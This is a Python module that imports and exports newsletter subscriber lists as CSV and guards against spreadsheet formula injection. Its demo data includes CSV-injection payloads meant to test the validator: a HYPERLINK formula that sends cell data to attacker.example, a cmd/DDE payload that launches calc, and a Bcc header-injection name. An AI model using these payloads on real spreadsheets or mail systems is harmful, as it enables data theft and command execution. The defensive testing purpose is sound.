"""Read subscriber lists from CSV files and write CSV files that are safe to open.

Reading is two steps: `read_import` turns the bytes of an uploaded file into
rows (encoding, delimiter, header), and `classify_rows` decides for each row
whether it is imported or reported. Neither touches the database; the caller
passes in what it knows about existing subscribers.
"""

import codecs
import csv
import io
import random
import re
import unicodedata
from collections.abc import Iterable, Iterator, Mapping, Sequence
from collections.abc import Set as AbstractSet
from dataclasses import dataclass
from typing import Literal

from flask_babel import lazy_gettext as _l
from flask_babel.speaklater import LazyString

from newsticker.core.errors import UserError
from subscribers.addresses import (
    InvalidAddress,
    address_key,
    normalise_address,
    suppression_hash,
)

__all__ = [
    "DEFAULT_LANGUAGE",
    "LANGUAGES",
    "MAX_IMPORT_BYTES",
    "NAME_MAX_LENGTH",
    "AcceptedRow",
    "ImportFileError",
    "ImportParse",
    "ImportRow",
    "ReportKind",
    "ReportLine",
    "classify_rows",
    "demo_import_rows",
    "read_import",
    "write_export",
    "write_report_csv",
]

MAX_IMPORT_BYTES = 20 * 1024 * 1024
LANGUAGES = frozenset({"de", "en"})
DEFAULT_LANGUAGE = "de"
NAME_MAX_LENGTH = 200
SUBSCRIBER_STATUSES = frozenset({"pending", "confirmed", "unsubscribed", "bounced"})

ReportKind = Literal["invalid", "duplicate", "suppressed", "unsubscribed", "unchanged"]

# Header cells are compared after casefolding and dropping spaces, hyphens,
# underscores and dots, so "E-Mail-Adresse", "e_mail" and "Email" all match.
_EMAIL_HEADERS = frozenset(
    {"email", "mail", "emailadresse", "emailaddress", "mailadresse", "mailaddress"}
)
_NAME_HEADERS = frozenset({"name", "fullname", "vollername", "vollständigername"})
_FIRST_NAME_HEADERS = frozenset({"vorname", "firstname", "givenname"})
_LAST_NAME_HEADERS = frozenset({"nachname", "familienname", "lastname", "surname", "familyname"})
_LANGUAGE_HEADERS = frozenset({"language", "sprache", "lang"})
_HEADER_NOISE = re.compile(r"[\s\-_.]+")

# OWASP CSV injection: a spreadsheet runs a cell that starts with one of these
# as a formula. Cells that already start with quotes before such a character
# get one more, so that reading strips exactly one and every value round-trips.
_FORMULA_START = re.compile(r"'*[=+\-@\t\r]")
_ESCAPED_FORMULA_START = re.compile(r"'+[=+\-@\t\r]")
_SEP_HINT = re.compile(r"sep=(.)\s*", re.IGNORECASE)
# Enough lines for the sniffer to see the pattern; more only makes it slower.
_SNIFF_CHARS = 16 * 1024

_EMPTY_FILE = _l("The file is empty.")
_WORKBOOK = _l(
    "This is a spreadsheet workbook, not a CSV file. Please save it from your "
    'spreadsheet program as "CSV UTF-8" or "CSV (semicolon separated)".'
)
_UNDECODABLE = _l(
    "The file could not be read as text. Please save it from your spreadsheet "
    'program as "CSV UTF-8" or "CSV (semicolon separated)".'
)
_NO_EMAIL_COLUMN = _l(
    'The first row must name the columns, and one of them must be "E-Mail". '
    'Optional columns are "Name" and "Sprache" (language).'
)
_NO_ROWS = _l("The file has a header row but no addresses.")

_NAME_CONTROL = _l("The name contains a line break or another invisible control character.")
_NAME_FORMULA = _l(
    "The name must not start with =, +, - or @: a spreadsheet would run it as a formula."
)
_SUPPRESSED = _l(
    "This address was erased at the subscriber's request and must not be imported again."
)
_UNSUBSCRIBED = _l("This address has unsubscribed. Only the subscriber can subscribe again.")
_BOUNCED = _l("Mail to this address could not be delivered, so it was taken off the list.")
_UNCHANGED = _l("Already subscribed; nothing changed.")


class ImportFileError(UserError):
    """A file that cannot be imported at all, with a message for the user."""


@dataclass(frozen=True, slots=True)
class ImportRow:
    """One data row as it appears in the file, not yet validated."""

    row_number: int  # as a spreadsheet shows it: the header is row 1
    email_raw: str
    name: str
    language: str


@dataclass(frozen=True, slots=True)
class ImportParse:
    """The rows of an import file and how the file was read."""

    rows: tuple[ImportRow, ...]
    encoding: str
    delimiter: str


@dataclass(frozen=True, slots=True)
class AcceptedRow:
    """A row that may be imported: normalised address, name and language."""

    row_number: int
    email: str
    key: str
    name: str
    language: str
    # "pending" when the address is already known but unconfirmed, so the
    # caller updates rather than inserts; None for a new address.
    existing_status: str | None


@dataclass(frozen=True, slots=True)
class ReportLine:
    """A row that is not imported, and why."""

    row_number: int
    value: str
    reason: LazyString
    kind: ReportKind


def read_import(data: bytes, *, max_bytes: int = MAX_IMPORT_BYTES) -> ImportParse:
    """Return the rows of an uploaded CSV file, or raise ImportFileError."""
    # Checked before decoding, so an oversized upload costs nothing to refuse.
    if len(data) > max_bytes:
        limit = f"{max_bytes / (1024 * 1024):g}"
        raise ImportFileError(
            _l("The file is too large: at most %(limit)s MB are allowed.", limit=limit)
        )
    text, encoding = _decode(data)
    if not text.strip():
        raise ImportFileError(_EMPTY_FILE)
    text, hinted = _strip_sep_hint(text)
    candidates = [hinted] if hinted else _delimiter_candidates(text)
    for delimiter in candidates:
        records = _records(text, delimiter)
        header = _first_record(records)
        columns = _Columns.from_header(header)
        if columns is not None:
            rows = tuple(_data_rows(records, columns))
            if not rows:
                raise ImportFileError(_NO_ROWS)
            return ImportParse(rows=rows, encoding=encoding, delimiter=delimiter)
    raise ImportFileError(_NO_EMAIL_COLUMN)


def _decode(data: bytes) -> tuple[str, str]:
    if not data:
        raise ImportFileError(_EMPTY_FILE)
    if data.startswith((b"PK\x03\x04", b"\xd0\xcf\x11\xe0")):
        # .xlsx/.ods are zip archives, .xls an OLE compound file.
        raise ImportFileError(_WORKBOOK)
    if data.startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE)) or b"\0" in data:
        # UTF-16 ("Unicode text" in Excel) or binary; neither is a CSV we read.
        raise ImportFileError(_UNDECODABLE)
    if data.startswith(codecs.BOM_UTF8):
        try:
            return data[len(codecs.BOM_UTF8) :].decode("utf-8"), "utf-8-sig"
        except UnicodeDecodeError as exc:
            raise ImportFileError(_UNDECODABLE) from exc
    try:
        return data.decode("utf-8"), "utf-8"
    except UnicodeDecodeError:
        pass
    # Excel on German Windows saves "CSV (Trennzeichen-getrennt)" as cp1252.
    # Its five undefined bytes make this fail for files that are neither.
    try:
        return data.decode("cp1252"), "cp1252"
    except UnicodeDecodeError as exc:
        raise ImportFileError(_UNDECODABLE) from exc


def _strip_sep_hint(text: str) -> tuple[str, str | None]:
    # Excel writes and honours a first line "sep=;" and does not show it as a
    # row, so it does not count towards row numbers either.
    first, newline, rest = _split_first_line(text)
    match = _SEP_HINT.fullmatch(first)
    if match is None or not newline:
        return text, None
    delimiter = match.group(1)
    return rest, delimiter if delimiter in ",;" else None


def _split_first_line(text: str) -> tuple[str, str, str]:
    match = re.search(r"\r\n|\r|\n", text)
    if match is None:
        return text, "", ""
    return text[: match.start()], match.group(), text[match.end() :]


def _delimiter_candidates(text: str) -> list[str]:
    sample = text[:_SNIFF_CHARS]
    cut = max(sample.rfind("\n"), sample.rfind("\r"))
    if cut > 0:
        sample = sample[:cut]
    try:
        sniffed = csv.Sniffer().sniff(sample, delimiters=",;").delimiter
    except csv.Error:
        # Too little text to tell (a one-column file, say); the header decides.
        sniffed = ";"
    # The sniffer guesses from character counts and is fooled by names like
    # "Müller, Hans"; the other delimiter is tried when its header makes no
    # sense.
    return [sniffed, "," if sniffed == ";" else ";"]


def _records(text: str, delimiter: str) -> Iterator[tuple[int, list[str]]]:
    # newline="" makes the reader accept \r\n, \n and \r alike, and keep line
    # breaks inside quoted cells. A record is one spreadsheet row even when a
    # quoted cell spans lines, so rows are counted by record, not by line.
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    number = 0
    while True:
        try:
            record = next(reader)
        except StopIteration:
            return
        except csv.Error as exc:
            message = _l("The file is not a valid CSV file (row %(row)s).", row=number + 1)
            raise ImportFileError(message) from exc
        number += 1
        # Undo write_export's formula escaping, so an export imports unchanged.
        yield number, [_unescape(cell) for cell in record]


def _unescape(cell: str) -> str:
    return cell[1:] if _ESCAPED_FORMULA_START.match(cell) else cell


def _first_record(records: Iterator[tuple[int, list[str]]]) -> list[str]:
    # Blank rows above the header still count: the user sees them as rows.
    for _number, record in records:
        if not _is_blank(record):
            return record
    return []


def _is_blank(record: Sequence[str]) -> bool:
    return all(not cell.strip() for cell in record)


def _normalise_header(cell: str) -> str:
    return _HEADER_NOISE.sub("", unicodedata.normalize("NFKC", cell).casefold())


@dataclass(frozen=True, slots=True)
class _Columns:
    email: int
    name: int | None
    first_name: int | None
    last_name: int | None
    language: int | None

    @classmethod
    def from_header(cls, header: Sequence[str]) -> "_Columns | None":
        names = [_normalise_header(cell) for cell in header]

        def find(accepted: frozenset[str]) -> int | None:
            return next((i for i, name in enumerate(names) if name in accepted), None)

        email = find(_EMAIL_HEADERS)
        if email is None:
            return None
        return cls(
            email=email,
            name=find(_NAME_HEADERS),
            first_name=find(_FIRST_NAME_HEADERS),
            last_name=find(_LAST_NAME_HEADERS),
            language=find(_LANGUAGE_HEADERS),
        )

    def name_of(self, record: Sequence[str]) -> str:
        if self.name is not None:
            return _cell(record, self.name)
        # Many address lists keep first and last names apart.
        parts = (_cell(record, self.first_name), _cell(record, self.last_name))
        return " ".join(part.strip() for part in parts if part.strip())


def _cell(record: Sequence[str], index: int | None) -> str:
    if index is None or index >= len(record):
        return ""
    return record[index]


def _data_rows(records: Iterator[tuple[int, list[str]]], columns: _Columns) -> Iterator[ImportRow]:
    for number, record in records:
        if _is_blank(record):
            continue
        yield ImportRow(
            row_number=number,
            email_raw=_cell(record, columns.email),
            name=columns.name_of(record),
            language=_cell(record, columns.language),
        )


def classify_rows(
    rows: Iterable[ImportRow],
    *,
    existing_keys: Mapping[str, str],
    suppressed_hashes: AbstractSet[str],
    salt: bytes,
) -> tuple[list[AcceptedRow], list[ReportLine]]:
    """Split rows into those to import and those to report, one outcome per row."""
    accepted: list[AcceptedRow] = []
    report: list[ReportLine] = []
    first_row_of: dict[str, int] = {}
    for row in rows:
        outcome = _classify_row(
            row,
            first_row_of=first_row_of,
            existing_keys=existing_keys,
            suppressed_hashes=suppressed_hashes,
            salt=salt,
        )
        if isinstance(outcome, AcceptedRow):
            accepted.append(outcome)
        else:
            report.append(outcome)
    return accepted, report


def _classify_row(
    row: ImportRow,
    *,
    first_row_of: dict[str, int],
    existing_keys: Mapping[str, str],
    suppressed_hashes: AbstractSet[str],
    salt: bytes,
) -> AcceptedRow | ReportLine:
    def reject(value: str, reason: LazyString, kind: ReportKind) -> ReportLine:
        return ReportLine(row.row_number, value, reason, kind)

    try:
        email = normalise_address(row.email_raw)
    except InvalidAddress as exc:
        return reject(row.email_raw, exc.message, "invalid")
    name = _clean_name(row.name)
    if isinstance(name, LazyString):
        return reject(row.name, name, "invalid")
    language = row.language.strip().casefold() or DEFAULT_LANGUAGE
    if language not in LANGUAGES:
        reason = _l(
            'Unknown language "%(value)s": use "de" or "en", or leave the cell empty.',
            value=row.language.strip(),
        )
        return reject(row.language, reason, "invalid")

    key = address_key(email)
    # Only rows that passed the checks above claim their address, so the row a
    # duplicate points to is one the user does not have to fix.
    if key in first_row_of:
        reason = _l(
            "This address is already in row %(row)s of the file.",
            row=first_row_of[key],
        )
        return reject(row.email_raw, reason, "duplicate")
    first_row_of[key] = row.row_number
    if suppression_hash(email, salt) in suppressed_hashes:
        return reject(row.email_raw, _SUPPRESSED, "suppressed")
    status = existing_keys.get(key)
    if status is not None and status not in SUBSCRIBER_STATUSES:
        raise ValueError(f"unknown subscriber status {status!r}")
    if status == "unsubscribed":
        return reject(row.email_raw, _UNSUBSCRIBED, "unsubscribed")
    if status == "bounced":
        # Importing would override the bounce handling; to the office it is
        # the same case as an unsubscription: the address is off the list.
        return reject(row.email_raw, _BOUNCED, "unsubscribed")
    if status == "confirmed":
        return reject(row.email_raw, _UNCHANGED, "unchanged")
    return AcceptedRow(row.row_number, email, key, name, language, status)


def _clean_name(raw: str) -> str | LazyString:
    if any(unicodedata.category(char) in {"Cc", "Cs", "Zl", "Zp"} and char != "\t" for char in raw):
        return _NAME_CONTROL
    name = " ".join(raw.split())
    # A lone dash is the usual spreadsheet filler for "no name".
    if not name.strip("-– "):
        return ""
    if name.startswith(("=", "+", "-", "@")):
        return _NAME_FORMULA
    if len(name) > NAME_MAX_LENGTH:
        return _l(
            "The name is too long: it may have at most %(limit)s characters.",
            limit=NAME_MAX_LENGTH,
        )
    return name


def _safe_cell(value: object) -> str:
    text = "" if value is None else str(value)
    if _FORMULA_START.match(text):
        return "'" + text
    return text


def write_export(
    rows: Iterable[Sequence[object]],
    header: Sequence[object],
    *,
    delimiter: str = ",",
) -> str:
    """Return CSV text whose cells a spreadsheet will not run as formulas."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow([_safe_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([_safe_cell(cell) for cell in row])
    return out.getvalue()


def write_report_csv(lines: Iterable[ReportLine], *, delimiter: str = ",") -> str:
    """Return the import report as CSV text in the current locale."""
    header = (_l("Row"), _l("Value"), _l("Problem"), _l("Reason"))
    return write_export(
        ((line.row_number, line.value, line.kind, line.reason) for line in lines),
        header,
        delimiter=delimiter,
    )


# Demo data. Addresses use only the reserved example.* domains (RFC 2606), so a
# misconfigured demo can never mail a real person.
_DEMO_PEOPLE: tuple[tuple[str, str], ...] = (
    ("Jürgen", "juergen"), ("Anna", "anna"), ("Jörg", "joerg"), ("Björn", "bjoern"),
    ("Sören", "soeren"), ("Käthe", "kaethe"), ("Günther", "guenther"),
    ("Lena", "lena"), ("Maren", "maren"), ("Hauke", "hauke"), ("Inge", "inge"),
    ("Frauke", "frauke"), ("Kirsten", "kirsten"), ("Malte", "malte"),
    ("Ayşe", "ayse"), ("Mehmet", "mehmet"), ("Gülşen", "guelsen"),
    ("Ahmad", "ahmad"), ("Fatemeh", "fatemeh"), ("Olena", "olena"),
    ("Dmytro", "dmytro"), ("Mariam", "mariam"), ("Yusuf", "yusuf"),
    ("Zainab", "zainab"), ("Ewa", "ewa"), ("Tomasz", "tomasz"),
)  # fmt: skip
_DEMO_SURNAMES: tuple[tuple[str, str], ...] = (
    ("Müller", "mueller"), ("Schröder", "schroeder"), ("Jürgensen", "juergensen"),
    ("Petersen", "petersen"), ("Hansen", "hansen"), ("Jensen", "jensen"),
    ("Sørensen", "soerensen"), ("Thomsen", "thomsen"), ("Lüthje", "luethje"),
    ("Krüger", "krueger"), ("Öztürk", "oeztuerk"), ("Yılmaz", "yilmaz"),
    ("Al-Hassan", "alhassan"), ("Hosseini", "hosseini"), ("Kowalenko", "kowalenko"),
    ("Nowak", "nowak"), ("Haddad", "haddad"), ("Schäfer", "schaefer"),
)  # fmt: skip
_DEMO_ORGANISATIONS: tuple[tuple[str, str], ...] = (
    ("Deutsch-Dänischer Kulturverein", "kulturverein"),
    ("Migrationsberatung Nord", "migrationsberatung"),
    ("Begegnungsstätte Neustadt", "begegnung-neustadt"),
    ("Sprachcafé Fördestraße", "sprachcafe"),
    ("Elternnetzwerk Mürwik", "elternnetz-muerwik"),
    ("Ehrenamtsbörse", "ehrenamt"),
    ("مركز اللقاء العربي", "arabisches-zentrum"),
    ("Українська громада", "ukrainische-gemeinde"),
)
_DEMO_DOMAINS = ("example.org", "example.com", "example.net", "mail.example.org")
_DEMO_INVALID_ADDRESSES = (
    "hans.petersen(at)example.org",
    "anna.jensen@example",
    "ole@@example.org",
    "maria lena@example.org",
    "kai.thomsen@example.org.",
    "info@verein@example.org",
    "olena.kowalenko@example,org",
    "jens..hansen@example.net",
    "@example.com",
    "",
)
_DEMO_NAMES_WITH_BREAKS = (
    "Inge\r\nThomsen",
    "Malte Krüger\nBcc: everyone@example.net",
    "Ewa\rNowak",
    "Frauke Lüthje\r\n",
    "Hauke\n\nJensen",
)
_DEMO_FORMULA_NAMES = (
    '=HYPERLINK("http://attacker.example/?x="&A2;"Anmelden")',
    "+49 461 85-0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUMME(A1:A9)",
    "=1+1",
)
_DEMO_BAD_LANGUAGES = ("fr", "deutsch", "English", "tr")
_DEMO_GOOD_ROWS = 470
_DEMO_DUPLICATES = 6


def demo_import_rows(seed: int = 7) -> tuple[bytes, int, int]:
    """Return a realistic 500-row import file and its counts of good and bad rows."""
    rng = random.Random(seed)
    keys: set[str] = set()

    def fresh_address(slug: str) -> str:
        domain = rng.choice(_DEMO_DOMAINS)
        candidate = f"{slug}@{domain}"
        number = 2
        while candidate in keys:
            candidate = f"{slug}{number}@{domain}"
            number += 1
        keys.add(candidate)
        return candidate

    def person() -> tuple[str, str]:
        first, first_slug = rng.choice(_DEMO_PEOPLE)
        last, last_slug = rng.choice(_DEMO_SURNAMES)
        style = rng.randrange(4)
        slug = (
            f"{first_slug}.{last_slug}",
            f"{first_slug[0]}.{last_slug}",
            f"{first_slug}{last_slug}",
            f"{last_slug}.{first_slug}",
        )[style]
        return f"{first} {last}", slug

    def language() -> str:
        return rng.choices(["de", "en", "", "DE", " en "], [70, 15, 10, 3, 2])[0]

    good: list[list[str]] = []
    for name, slug in _DEMO_ORGANISATIONS:
        good.append([fresh_address(slug), name, "de"])
    while len(good) < _DEMO_GOOD_ROWS:
        name, slug = person()
        # Some people leave the name out, or use a dash for "none".
        shown = rng.choices([name, "", "-"], [90, 8, 2])[0]
        good.append([fresh_address(slug), shown, language()])

    bad: list[list[str]] = []
    for original in rng.sample(good, _DEMO_DUPLICATES):
        # Differently written, still the same subscriber.
        variant = rng.choice([str.upper, str.title, str.swapcase])(original[0])
        bad.append([f" {variant}", original[1], original[2]])
    bad.extend(
        [address, rng.choice(["", person()[0]]), "de"] for address in _DEMO_INVALID_ADDRESSES
    )
    for name in _DEMO_NAMES_WITH_BREAKS + _DEMO_FORMULA_NAMES:
        bad.append([fresh_address(person()[1]), name, "de"])
    for code in _DEMO_BAD_LANGUAGES:
        name, slug = person()
        bad.append([fresh_address(slug), name, code])

    rows = good + bad
    rng.shuffle(rows)
    out = io.StringIO(newline="")
    # What Excel's "CSV UTF-8" writes: BOM, semicolons, CRLF.
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(["E-Mail", "Name", "Sprache"])
    writer.writerows(rows)
    return out.getvalue().encode("utf-8-sig"), len(good), len(bad)
